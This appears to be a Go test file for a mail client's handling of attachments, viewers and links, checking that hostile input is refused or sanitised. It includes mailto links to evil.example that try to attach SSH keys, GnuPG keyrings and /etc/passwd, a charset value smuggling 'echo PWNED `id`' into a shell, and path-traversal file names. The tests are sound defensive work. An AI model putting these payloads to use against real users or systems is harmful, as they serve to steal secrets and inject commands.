package external

import (
	"bytes"
	"context"
	"errors"
	"io"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"testing/iotest"
	"testing/quick"
	"time"
	"unicode/utf8"

	"github.com/sesbox/sesbox/mailstore"
	"github.com/sesbox/sesbox/mailstore/mailcap"
	"github.com/sesbox/sesbox/mailstore/xdg"
)

func TestPrivateDirUnderRuntimeDir(t *testing.T) {
	rt := t.TempDir()
	t.Setenv("XDG_RUNTIME_DIR", rt)
	dir, err := PrivateDir()
	if err != nil {
		t.Fatal(err)
	}
	if filepath.Dir(dir) != filepath.Join(rt, "sesbox") {
		t.Fatalf("dir %s not under %s/sesbox", dir, rt)
	}
	for _, d := range []string{dir, filepath.Dir(dir)} {
		fi, err := os.Lstat(d)
		if err != nil || fi.Mode().Perm() != 0o700 || !fi.IsDir() {
			t.Fatalf("%s: mode %v, %v", d, fi.Mode(), err)
		}
	}
	path, err := WriteFile(dir, strings.NewReader("%PDF"), "application/pdf; name=\"../../evil.sh\"", "")
	if err != nil {
		t.Fatal(err)
	}
	fi, err := os.Lstat(path)
	if err != nil || fi.Mode().Perm() != 0o600 || filepath.Dir(path) != dir || !strings.HasSuffix(path, ".pdf") {
		t.Fatalf("file %s mode %v, %v", path, fi.Mode(), err)
	}
}

func TestPrivateDirFallsBackToCache(t *testing.T) {
	cache := t.TempDir()
	t.Setenv("XDG_RUNTIME_DIR", "")
	t.Setenv("XDG_CACHE_HOME", cache)
	dir, err := PrivateDir()
	if err != nil || !strings.HasPrefix(dir, filepath.Join(cache, "sesbox", "tmp")+"/") {
		t.Fatalf("dir %q, %v", dir, err)
	}
}

func TestPrivateDirRefusesSymlink(t *testing.T) {
	rt := t.TempDir()
	elsewhere := t.TempDir()
	if err := os.Symlink(elsewhere, filepath.Join(rt, "sesbox")); err != nil {
		t.Fatal(err)
	}
	t.Setenv("XDG_RUNTIME_DIR", rt)
	if dir, err := PrivateDir(); err == nil {
		t.Fatalf("followed a symlink to %s", dir)
	}
	if es, _ := os.ReadDir(elsewhere); len(es) != 0 {
		t.Fatalf("wrote through the symlink: %v", es)
	}
}

// TestPrivateDirRefusesASymlinkedCacheDir: with no runtime directory the
// copies go under $XDG_CACHE_HOME/sesbox/tmp, and a symlink in place of
// $XDG_CACHE_HOME/sesbox is refused, as the index refuses it; only tmp
// itself was checked, so the copies of attachments went wherever the link
// points.
func TestPrivateDirRefusesASymlinkedCacheDir(t *testing.T) {
	cache := t.TempDir()
	elsewhere := t.TempDir()
	if err := os.Symlink(elsewhere, filepath.Join(cache, "sesbox")); err != nil {
		t.Fatal(err)
	}
	t.Setenv("XDG_RUNTIME_DIR", "")
	t.Setenv("XDG_CACHE_HOME", cache)
	if dir, err := PrivateDir(); !errors.Is(err, xdg.ErrSymlink) {
		t.Errorf("PrivateDir: %q, %v, want ErrSymlink", dir, err)
	}
	if es, _ := os.ReadDir(elsewhere); len(es) != 0 {
		t.Errorf("made %s through the symlink", es[0].Name())
	}
}

func TestPrivateDirTightensMode(t *testing.T) {
	rt := t.TempDir()
	os.Mkdir(filepath.Join(rt, "sesbox"), 0o755)
	t.Setenv("XDG_RUNTIME_DIR", rt)
	if _, err := PrivateDir(); err != nil {
		t.Fatal(err)
	}
	if fi, _ := os.Lstat(filepath.Join(rt, "sesbox")); fi.Mode().Perm() != 0o700 {
		t.Fatalf("base left %v", fi.Mode())
	}
}

func TestWriteFileRefusesExisting(t *testing.T) {
	dir := t.TempDir()
	target := filepath.Join(t.TempDir(), "target")
	// Fill every name WriteFile could pick? Impossible; instead check the
	// open flags directly: a planted symlink at a chosen name must fail.
	link := filepath.Join(dir, "x.txt")
	os.Symlink(target, link)
	if _, err := os.OpenFile(link, os.O_WRONLY|os.O_CREATE|os.O_EXCL|noFollow, 0o600); err == nil {
		t.Fatal("the open flags follow a symlink")
	}
	if _, err := os.Stat(target); err == nil {
		t.Fatal("created the symlink's target")
	}
}

func TestExtension(t *testing.T) {
	for ct, want := range map[string]string{
		"application/pdf":                  ".pdf",
		"TEXT/HTML; charset=utf-8":         ".html",
		"image/jpeg":                       ".jpg",
		"text/x-weird":                     ".txt",
		"application/x-unknown-thing":      ".bin",
		"message/rfc822":                   ".eml",
		"application/../../etc/passwd":     ".bin",
		"not a type at all; ../../x=1.exe": ".bin",
	} {
		if got := Extension(ct); got != want {
			t.Errorf("Extension(%q) = %q, want %q", ct, got, want)
		}
	}
}

func TestOutputCopiousViewer(t *testing.T) {
	dir := t.TempDir()
	path, err := WriteFile(dir, strings.NewReader("hello from a part\n"), "text/plain", "")
	if err != nil {
		t.Fatal(err)
	}
	x, err := mailcap.Expand("cat %s", path, "text/plain", nil)
	if err != nil {
		t.Fatal(err)
	}
	out, cut, err := Output(context.Background(), x.Command, nil)
	if err != nil || cut || string(out) != "hello from a part\n" {
		t.Fatalf("got %q cut=%v err=%v", out, cut, err)
	}
	out, _, err = Output(context.Background(), "tr a-z A-Z", []byte("stdin data"))
	if err != nil || string(out) != "STDIN DATA" {
		t.Fatalf("stdin viewer: %q %v", out, err)
	}
	_, _, err = Output(context.Background(), "echo broken >&2; exit 3", nil)
	if err == nil || !strings.Contains(err.Error(), "broken") {
		t.Fatalf("failure not reported with stderr: %v", err)
	}
}

func TestOutputIsBounded(t *testing.T) {
	out, cut, err := Output(context.Background(), "head -c "+strconv.Itoa(OutputLimit+1000)+" /dev/zero", nil)
	if err != nil || !cut || len(out) != OutputLimit {
		t.Fatalf("len %d cut %v err %v", len(out), cut, err)
	}
}

func TestTestPasses(t *testing.T) {
	ok := mailcap.Entry{Test: "test -f %s"}
	if !TestPasses(context.Background(), ok, "/etc/passwd", "", nil) {
		t.Error("a passing test failed")
	}
	if TestPasses(context.Background(), ok, "/nonexistent", "", nil) {
		t.Error("a failing test passed")
	}
}

func TestPipeWithRealCommand(t *testing.T) {
	var out, errOut bytes.Buffer
	if err := Pipe("wc -c", strings.NewReader("twelve bytes"), &out, &errOut); err != nil {
		t.Fatal(err)
	}
	if strings.TrimSpace(out.String()) != "12" {
		t.Fatalf("wc -c printed %q", out.String())
	}
	if err := Pipe("exit 4", strings.NewReader(""), &out, &errOut); err == nil {
		t.Fatal("a failing command is not an error")
	}
}

func TestBrowser(t *testing.T) {
	t.Setenv("BROWSER", ":w3m %s:firefox")
	if b := Browser("xdg-open"); b != "w3m %s" {
		t.Fatalf("Browser = %q", b)
	}
	if a := BrowserArgv("w3m -o x=%s", "http://a b"); len(a) != 3 || a[2] != "x=http://a b" {
		t.Fatalf("argv %q", a)
	}
	t.Setenv("BROWSER", "")
	if b := Browser("xdg-open"); b != "xdg-open" {
		t.Fatalf("fallback %q", b)
	}
	if a := BrowserArgv("xdg-open", "/tmp/x.html"); len(a) != 2 || a[1] != "/tmp/x.html" {
		t.Fatalf("argv %q", a)
	}
}

func TestOpenableURL(t *testing.T) {
	for u, want := range map[string]bool{
		"https://example.com/x":     true,
		"HTTP://example.com":        true,
		"mailto:a@example.com":      true,
		"javascript:alert(1)":       false,
		"file:///etc/passwd":        false,
		"--new-window=evil":         false,
		"https://":                  false,
		"https://a.example/\n-rf":   false,
		"vscode://open?file=/x":     false,
		"https://example.com/a b c": false,
		// Blanks and controls other than space, tab, CR and LF.
		"https://a.example/\x1b]0;x\a":                             false,
		"https://a.example/\u0085x":                                false,
		"https://a.example/\u00a0x":                                false,
		"https://a.example/\vx":                                    false,
		"mailto:a@example.com?subject=Hi%20there&body=Tom%26Jerry": true,
		"mailto:a@example.com?CC=b@example.com;subject=x":          true,
		"mailto:?to=a@example.com&in-reply-to=%3Cm@x%3E":           true,
	} {
		if got := NotOpenable(u) == ""; got != want {
			t.Errorf("NotOpenable(%q) = %q: opened %v, want %v", u, NotOpenable(u), got, want)
		}
	}
}

// TestMailtoLinksNamingFilesAreNotOpened: a sender's mailto: link that
// names a local file for the mail client to attach (attach=, attachment=,
// attachments=, however spelt or hidden) was handed to the browser or
// opener, and so to the mail client, which attached the file to a
// message the user then sent to the sender ("Mailto: Me Your Secrets",
// 2020); such a link is copied, never opened, and says why.
func TestMailtoLinksNamingFilesAreNotOpened(t *testing.T) {
	for _, u := range []string{
		"mailto:x@evil.example?attach=/home/me/.ssh/id_rsa",
		"mailto:x@evil.example?subject=hi&attachment=~/.gnupg/secring.gpg",
		"mailto:x@evil.example?body=hi;attachments=/etc/passwd",
		"MAILTO:x@evil.example?ATTACH=/etc/passwd",
		"mailto:x@evil.example?%61ttach=/etc/passwd",
		"mailto:x@evil.example?%2561ttach=/etc/passwd",
		"mailto:x@evil.example%3Fattach=/etc/passwd",
		"mailto:x@evil.example?subject%3Dx%26attach=/etc/passwd",
		"mailto:x@evil.example?bcc=spy@evil.example",
		"mailto:x@evil.example?x-mailer=y&subject=z",
		"mailto:x@evil.example?%zz=1",
		// An invalid escape made the address's decoding give up, and
		// with it the check of what the address hid.
		"mailto:x@evil.example%3Fattach=/etc/passwd%zz",
		// Values that hide a field, a recipient or a header line.
		"mailto:x@evil.example?subject=a%26attach%3D/etc/passwd",
		"mailto:x@evil.example?subject=x%0D%0ABcc:%20spy@evil.example",
		"mailto:x@evil.example?to=a@x.example%2Cspy@evil.example",
		"mailto:x@evil.example?subject=hi,attachment=/etc/passwd",
		"mailto:x@evil.example?to=a@x.example%27,attachment=%27/etc/passwd",
	} {
		why := NotOpenable(u)
		if why == "" {
			t.Errorf("%q is opened", u)
		} else if !strings.Contains(why, "mailto:") {
			t.Errorf("%q: %q does not say why", u, why)
		}
	}
}

func TestOverSSH(t *testing.T) {
	t.Setenv("SSH_CONNECTION", "")
	t.Setenv("SSH_TTY", "")
	if OverSSH() {
		t.Fatal("no SSH variables but OverSSH")
	}
	t.Setenv("SSH_TTY", "/dev/pts/3")
	if !OverSSH() {
		t.Fatal("SSH_TTY ignored")
	}
}

func TestStartReportsMissingProgram(t *testing.T) {
	if err := Start(nil); err == nil {
		t.Error("no argv is not an error")
	}
	if err := Start([]string{"/nonexistent/program"}); err == nil {
		t.Error("a missing program is not an error")
	}
	if err := Start([]string{"true"}); err != nil {
		t.Error(err)
	}
}

func TestShow(t *testing.T) {
	t.Setenv("XDG_RUNTIME_DIR", t.TempDir())
	ctx := context.Background()
	parse := func(s string) *mailcap.Mailcap {
		es, err := mailcap.Parse(strings.NewReader(s), "mc")
		if err != nil {
			t.Fatal(err)
		}
		return &mailcap.Mailcap{Entries: es}
	}
	content := []byte("part content\n")

	// copiousoutput: the output, the private copy removed after.
	s, err := Show(ctx, parse("application/x-a; tr a-z A-Z < %s; copiousoutput\n"), content, "application/x-a", nil, "")
	if err != nil || s.How != Rendered || string(s.Text) != "PART CONTENT\n" || s.Source != "mc:1" {
		t.Fatalf("copious: %#v %v", s, err)
	}
	if _, err := os.Stat(s.Path); err == nil {
		t.Fatal("the private copy outlived the viewer")
	}
	// Without %s the content comes on stdin.
	s, err = Show(ctx, parse("application/x-a; wc -c; copiousoutput\n"), content, "application/x-a", nil, "")
	if err != nil || strings.TrimSpace(string(s.Text)) != "13" {
		t.Fatalf("stdin: %#v %v", s, err)
	}
	// A failing test= skips the entry.
	s, _ = Show(ctx, parse("application/x-a; echo no; test=false; copiousoutput\napplication/*; echo yes; copiousoutput\n"), content, "application/x-a", nil, "")
	if string(s.Text) != "yes\n" {
		t.Fatalf("test= ignored: %#v", s)
	}
	// needsterminal: the command, quoted, for the terminal; the copy kept.
	s, err = Show(ctx, parse("application/x-a; less %s; needsterminal\n"), content, "application/x-a", nil, "")
	if err != nil || s.How != Terminal || s.Command != "less "+mailcap.Quote(s.Path) {
		t.Fatalf("terminal: %#v %v", s, err)
	}
	if b, err := os.ReadFile(s.Path); err != nil || string(b) != string(content) {
		t.Fatalf("copy %q %v", b, err)
	}
	os.RemoveAll(s.Dir)
	// No entry: the opener, on the copy.
	log := filepath.Join(t.TempDir(), "log")
	opener := filepath.Join(t.TempDir(), "opener")
	os.WriteFile(opener, []byte("#!/bin/sh\necho \"$1\" > "+log+"\n"), 0o700)
	s, err = Show(ctx, parse("text/plain; cat; copiousoutput\n"), content, "application/pdf", nil, opener)
	if err != nil || s.How != Started || !strings.HasSuffix(s.Path, ".pdf") {
		t.Fatalf("opener: %#v %v", s, err)
	}
	for range 200 {
		if b, _ := os.ReadFile(log); strings.TrimSpace(string(b)) == s.Path {
			return
		}
		time.Sleep(10 * time.Millisecond)
	}
	t.Fatal("the opener did not get the copy")
}

// A program that is not installed (xdg-open on a server) says what to do
// first: set $BROWSER or $OPENER.
func TestStartMissingProgramHintsFirst(t *testing.T) {
	err := Start([]string{"sesbox-no-such-opener-xyz", "/tmp/x.html"})
	if err == nil {
		t.Fatal("a missing program started")
	}
	got := mailstore.Explain(err)
	if !strings.HasPrefix(got, "sesbox-no-such-opener-xyz is not installed: set $BROWSER") {
		t.Fatalf("Explain = %q, want the hint first", got)
	}
	if !strings.Contains(got, "executable file not found") {
		t.Fatalf("Explain = %q lost the detail", got)
	}
}

// TestWriteFileRemovesAPartialCopy: a copy whose content breaks midway (a
// read that fails after some bytes) leaves nothing behind in the private
// directory; the half-written file stayed there, looking whole to the
// program it was meant for.
func TestWriteFileRemovesAPartialCopy(t *testing.T) {
	dir, err := privateDirIn(filepath.Join(t.TempDir(), "sesbox"))
	if err != nil {
		t.Fatal(err)
	}
	broken := io.MultiReader(strings.NewReader(strings.Repeat("x", 100<<10)), iotest.ErrReader(errors.New("connection reset")))
	if path, err := WriteFile(dir, broken, "application/pdf", ""); err == nil || !strings.Contains(err.Error(), "connection reset") {
		t.Fatalf("WriteFile of a broken read: %q, %v; want the read's error", path, err)
	}
	if ents, err := os.ReadDir(dir); err != nil || len(ents) != 0 {
		t.Errorf("left in the private directory: %v (%v)", ents, err)
	}
}

// An entry that hands a value to a shell once more (eval, su -c, ssh
// HOST) parses mailcap.Expand's quoting away: values reach it made of
// safe characters only, as mutt's $mailcap_sanitize makes them, so a
// charset "x;echo PWNED" ran echo before.
func TestShowSanitizesWhatTheSenderWrote(t *testing.T) {
	t.Setenv("XDG_RUNTIME_DIR", t.TempDir())
	es, err := mailcap.Parse(strings.NewReader("application/x-a; eval echo %{charset} %t; copiousoutput\n"), "mc")
	if err != nil {
		t.Fatal(err)
	}
	s, err := Show(context.Background(), &mailcap.Mailcap{Entries: es}, []byte("x"), "application/x-a",
		map[string]string{"Charset": "x;echo PWNED `id` $(id)"}, "")
	if err != nil || string(s.Text) != "x_echo_PWNED__id____id_ application/x-a\n" {
		t.Fatalf("eval of a hostile charset: %q %v", s.Text, err)
	}
}

// Every byte a value keeps is one no shell reads as syntax, and a real
// value (a charset, a type, a file name without spaces) is kept whole.
func TestSanitizeValueProperty(t *testing.T) {
	for _, v := range []string{"utf-8", "ISO-8859-1", "text/html", "report_2024.pdf", "a+b,c=d@e:f"} {
		if got := sanitizeValue(v); got != v {
			t.Errorf("sanitizeValue(%q) = %q", v, got)
		}
	}
	f := func(v string) bool {
		got := sanitizeValue(v)
		return utf8.RuneCountInString(got) == utf8.RuneCountInString(v) &&
			strings.Trim(got, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+,-./:=@_") == ""
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 5000}); err != nil {
		t.Fatal(err)
	}
}
